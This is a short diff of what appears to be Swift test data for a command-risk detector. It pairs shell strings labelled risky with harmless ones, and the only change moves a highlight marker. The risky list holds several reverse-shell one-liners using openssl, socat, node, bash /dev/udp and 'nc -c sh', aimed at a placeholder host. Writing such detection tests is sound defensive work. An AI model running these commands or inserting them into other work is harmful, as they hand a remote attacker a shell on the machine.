@@ -23,7 +23,7 @@ extension RiskRule {
       "openssl s_client -connect h:80 | ‹sh›", "sh -i 2>&1 | ‹openssl s_client -connect h:80›",
       "socat exec:bash,pty tcp:h:80",
       "node -e 'require(\"net\").connect(80,\"h\").pipe(require(\"child_process\").spawn(\"sh\").stdin)'",
-      "bash -c ‹'sh -i >& /dev/udp/h/53 0>&1'›", "nc h 80 -c sh",
+      "bash -c '‹sh -i >& /dev/udp/h/53 0>&1›'", "nc h 80 -c sh",
     ],
     harmless: [
       "nc -l 80", "nc -zv h 22", "socat - TCP:h:80", "openssl s_client -connect h:443", "python3 -c 'import socket'",
